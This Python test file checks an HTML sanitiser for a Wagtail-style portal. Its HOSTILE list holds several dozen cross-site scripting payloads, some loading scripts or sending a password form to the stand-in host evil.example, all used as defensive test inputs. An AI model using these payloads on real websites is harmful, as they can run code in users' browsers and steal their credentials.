"""Foreign HTML and plain notes become safe HTML, whatever they hold."""

from __future__ import annotations

import time
from html.parser import HTMLParser

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from fsa_portal import richtext

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<p onclick=alert(1)>text</p>",
    "<p style='background:url(javascript:alert(1))'>text</p>",
    "<a href='javascript:alert(1)'>text</a>",
    "<a href='JaVaScRiPt:alert(1)'>text</a>",
    "<a href='java\tscript:alert(1)'>text</a>",
    "<a href='&#106;avascript:alert(1)'>text</a>",
    "<a href=' \x01javascript:alert(1)'>text</a>",
    "<a href='vbscript:msgbox(1)'>text</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>text</a>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,x'></object>",
    "<embed src='javascript:alert(1)'>",
    "<embed embedtype='image' id='1' src='//evil.example' onload='alert(1)'>",
    "<form action='https://evil.example'><input name=password><button>go</button></form>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<table background='javascript:alert(1)'><tr><td>text</table>",
    "<a href='#' target=_blank formaction=javascript:alert(1)>text</a>",
    "<p>text<plaintext><script>alert(1)</script>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>text</details>",
    "<textarea><script>alert(1)</script></textarea>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
]


class Danger(HTMLParser):
    """Lists what a browser could run, load or send in a piece of HTML."""

    def __init__(self, markup: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in richtext.TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name not in richtext.ATTRIBUTES.get(tag, ()):
                self.found.append(f"{tag}.{name}")
            if name == "href":
                scheme, colon, _ = (value or "").strip().lower().partition(":")
                if colon and scheme not in richtext.SCHEMES:
                    self.found.append(f"href {value}")

    def handle_comment(self, data: str) -> None:
        self.found.append("comment")

    def handle_decl(self, decl: str) -> None:
        self.found.append("declaration")

    def unknown_decl(self, data: str) -> None:
        self.found.append("marked section")


@pytest.mark.parametrize("markup", HOSTILE)
def test_nothing_that_a_browser_would_run_is_left(markup: str) -> None:
    assert Danger(markup).found or "\x00" in markup, "the sample is harmless: it shows nothing"
    assert Danger(richtext.clean(markup)).found == []


def test_the_code_of_scripts_and_styles_does_not_stay_as_text() -> None:
    assert richtext.clean("a<script>alert(1)</script><style>p{}</style>b") == "ab"


def test_what_editors_write_stays_as_it_is() -> None:
    written = (
        '<h2>Lage</h2><p><b>Sozialraum</b> und <i>Bericht</i>: <a href="https://example.org/a?b=1">Quelle</a>, '
        '<a linktype="page" id="12">Kapitel</a></p><embed embedtype="image" id="3" alt="Karte" format="left"/><ul><li>eins</li></ul><table><tbody><tr>'
        '<th scope="row">2025</th><td colspan="2">1</td></tr></tbody></table>'
    )
    assert richtext.clean(written) == written


@pytest.mark.parametrize(
    ("given", "left"),
    [
        ('<a linktype="page" id="1&quot;&gt;&lt;svg&gt;">Kapitel</a>', "<a>Kapitel</a>"),
        ('<a linktype="page">Kapitel</a>', "<a>Kapitel</a>"),
        ('<a linktype="user" id="1" title="T">Kapitel</a>', '<a title="T">Kapitel</a>'),
        ('<a href="/x" id="filter">Kapitel</a>', '<a href="/x">Kapitel</a>'),
        ('<a linktype="document" id="3">Blatt</a>', '<a linktype="document" id="3">Blatt</a>'),
        ('<embed embedtype="image" id="x" alt="A">', ""),
        ('<embed embedtype="media" id="3">', ""),
        ('<embed id="3">', ""),
    ],
)
def test_what_names_no_record_by_its_number_is_no_reference(given: str, left: str) -> None:
    """Wagtail would not find what it looks for, and the whole page would not be shown."""
    assert richtext.clean(given) == left
    assert richtext.clean(left) == left


FRAGMENTS = [
    *(f"<{tag}>" for tag in sorted(richtext.TAGS)),
    *(f"</{tag}>" for tag in sorted(richtext.TAGS)),
    "<div>", "</div>", "<svg>", "</svg>", "<math>", "<mtext>", "<style>", "</style>", "<script>", "<title>",
    "<template>", "<select>", "<option>", "<textarea>", "<noscript>", "<!--", "-->", "<a href='/x' title='\">'>",
    "<img src=x onerror=alert(1)>", "Text", "&lt;b&gt;", "&amp;", "<", "&", "\x00", "\n",
]  # fmt: skip


@settings(deadline=None, max_examples=300)
@given(st.lists(st.sampled_from(FRAGMENTS), max_size=20).map("".join))
@example("<dt><table><dt>")
@example(
    "<tr><abbr><a href='/x'></sup><a href='/x'><h3><a href=/><h3><em><tfoot><table><p>x<tr><tbody><a href='/x'>"
)
def test_clean_html_is_safe_and_cleaning_it_again_changes_nothing(markup: str) -> None:
    once = richtext.clean(markup)
    assert Danger(once).found == []
    assert richtext.clean(once) == once


@settings(deadline=None, max_examples=200)
@given(st.text(max_size=200))
def test_any_plain_text_becomes_safe_html_that_says_the_same(text: str) -> None:
    markup = richtext.from_text(text)
    assert Danger(markup).found == []
    assert richtext.plain(markup) == " ".join(richtext.tidy(text).split())


def test_a_note_keeps_paragraphs_and_lines_and_gets_links() -> None:
    note = "Termin am 3. März\nRathaus, Raum 4\n\nsiehe https://example.org/plan und planung@example.org"
    markup = richtext.from_text(note)
    assert markup.startswith("<p>Termin am 3. März<br>Rathaus, Raum 4</p><p>siehe ")
    assert '<a href="https://example.org/plan">https://example.org/plan</a>' in markup
    assert '<a href="mailto:planung@example.org">planung@example.org</a>' in markup


def test_html_in_a_note_is_shown_not_obeyed() -> None:
    assert richtext.from_text("<b>5 < 6</b>") == "<p>&lt;b&gt;5 &lt; 6&lt;/b&gt;</p>"


@pytest.mark.parametrize("endless", ["a-" * 10_000, "(" * 20_000, "www." * 5_000, "a." * 10_000])
def test_a_word_without_end_is_no_address_and_costs_no_time(endless: str) -> None:
    start = time.process_time()
    assert endless in richtext.from_text(endless)
    assert time.process_time() - start < 1


def test_plain_takes_tags_out_and_keeps_words_apart() -> None:
    markup = "<h2>Lage</h2><p>Die <b>Zahl</b>en &amp; Räume<br>hier</p><ul><li>eins</li><li>zwei</li></ul>"
    assert richtext.plain(markup) == "Lage Die Zahlen & Räume hier eins zwei"
    assert richtext.plain("<table><tr><td>1</td><td>2</td></tr></table>") == "1 2"


def test_plain_takes_no_time_for_brackets_that_never_close() -> None:
    start = time.process_time()
    richtext.plain("<" * 100_000)
    assert time.process_time() - start < 1


def test_plain_text_is_composed_and_has_no_control_characters() -> None:
    assert richtext.tidy("Ru\u0308ckfrage\x00\x07\x7f\r\nZeile\rEnde\tda") == "Rückfrage\nZeile\nEnde\tda"
